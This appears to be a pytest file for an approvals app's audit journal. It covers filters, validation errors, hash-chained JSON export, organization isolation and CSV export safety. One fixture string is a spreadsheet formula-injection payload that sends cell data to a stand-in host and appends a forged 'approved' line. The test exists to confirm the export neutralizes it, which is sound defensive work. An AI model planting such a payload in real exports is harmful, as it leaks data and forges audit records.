"""The journal as auditors read it: filters in the address, refusals in words, and a file that verifies elsewhere."""

import csv
import hashlib
import io
import json
from datetime import timedelta
from typing import Any

import pytest

from approvals import deciding
from approvals.refusals import Refusal
from journal.clock import now as database_now
from journal.queries import entries_of_organization
from tests.web.people import Person
from tests.world import World
from web.operations import journal

HERE = "/journal/"
FORMULA = '=HYPERLINK("https://x.example?d="&A1)\r\n2026-01-01 approved by everybody'


@pytest.fixture
def told(world: World) -> World:
    """An order proven, words of a person on it, and a submission that was refused."""
    intent = world.done()
    with pytest.raises(Refusal):
        world.propose(arguments={"dossier_ref": "x"})
    deciding.comment(person=world.people["approver"], proposal_id=intent.revision.proposal_id, words=FORMULA)
    return world


def test_what_is_shown_is_what_the_address_asks_for(told: World, monkeypatch: Any) -> None:
    auditor = Person(told, "auditor")
    today, tomorrow = (f"{database_now() + timedelta(days=days):%Y-%m-%d}" for days in (0, 2))
    for filters, there, absent in (
        ("about=refused", "the arguments do not fit the contract", "Proposal submitted"),
        ("about=refused", "ouvrir_revue_dossier", "Handed over to"),
        ("about=orders", "Handed over to the business system", "Submission refused"),
        ("who=APPROVER", "Signed", "Proposal submitted"),
        ("proposal=P-1", "Proposal submitted", "Contract version published"),
        ("proposal=P-999", "Nothing was told that fits.", "Proposal submitted"),
        (f"since={tomorrow}", "Nothing was told that fits.", "Proposal submitted"),
        (f"since=2020-01-01&until={today}", "Proposal submitted", "Nothing was told"),
        ("about=contracts", "refund_create", "Proposal submitted"),
    ):
        text = auditor.text(f"{HERE}?{filters}")
        assert (there in text, absent in text) == (True, False), filters
    for filters, says in (
        ("about=x", "Choose one of the subjects listed."),
        ("proposal=P-x", "A proposal’s number, such as P-42."),
        ("since=2026-13-45", "Give a day, such as 2026-12-01."),
        ("since=2026-12-02&until=2026-12-01", "It ends before it begins."),
        ("who=%00", "Null characters are not allowed."),
    ):
        answer = auditor.open(f"{HERE}?{filters}")
        assert (answer.status_code, says in answer.content.decode()) == (422, True), filters
        assert "Proposal submitted" not in answer.content.decode()
    monkeypatch.setattr(journal, "PAGE", 1)
    assert "&amp;about=orders&amp;before=" in auditor.text(f"{HERE}?about=orders")


def test_the_export_verifies_without_the_database_and_holds_nothing_foreign(told: World) -> None:
    auditor = Person(told, "auditor")
    answer = auditor.open(f"{HERE}export/")
    *entries, end = map(json.loads, b"".join(answer.streaming_content).decode().splitlines())
    assert end == {"end": True, "entries": len(entries)}
    assert len(entries) == len(entries_of_organization(told.demo.pk, limit=10_000))
    chains: dict[str, str | None] = {}
    for entry in entries:
        digest, body = hashlib.sha256(entry["body"].encode()).hexdigest(), json.loads(entry["body"])
        assert entry["digest"] == f"sha256:{digest}"
        if body["chain"]:
            assert body["previous"] == chains.get(body["chain"])
            chains[body["chain"]] = digest
        if entry["personal"] is not None:
            bound = hashlib.sha256(bytes.fromhex(entry["salt"]) + entry["personal"].encode()).hexdigest()
            assert body["personal"] == f"sha256:{bound}"
    assert set(chains) == {"P-1"}

    foreign = b"".join(Person(told, "stranger").open(f"{HERE}export/?organization=other").streaming_content)
    assert b"P-1" not in foreign
    for name, address in (("stranger", f"{HERE}export/?organization=demo"), ("approver", f"{HERE}export/")):
        assert Person(told, name).open(address).status_code == 404
    assert auditor.open(f"{HERE}export/?format=xml").status_code == 404
    assert auditor.open(f"{HERE}export/?since=x").status_code == 422


def test_the_table_has_one_line_for_each_entry_and_no_cell_that_a_spreadsheet_would_run(told: World) -> None:
    answer = Person(told, "auditor").open(f"{HERE}export/?format=csv&proposal=P-1", HTTP_ACCEPT_LANGUAGE="fr")
    text = b"".join(answer.streaming_content).decode()
    heading, *rows = csv.reader(io.StringIO(text))
    assert len(text.splitlines()) == len(rows) + 1
    assert len(rows) == len(entries_of_organization(told.demo.pk, limit=10_000)) - without_a_proposal(told)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    commented = next(row for row in rows if row[heading.index("kind")] == "comment.made")
    said = commented[heading.index("words")]
    assert said.removeprefix("'").encode().decode("unicode_escape") == FORMULA
    assert "Proposition déposée" in text


def without_a_proposal(world: World) -> int:
    """How many entries belong to no proposal."""
    return sum(entry.chain is None for entry in entries_of_organization(world.demo.pk, limit=10_000))
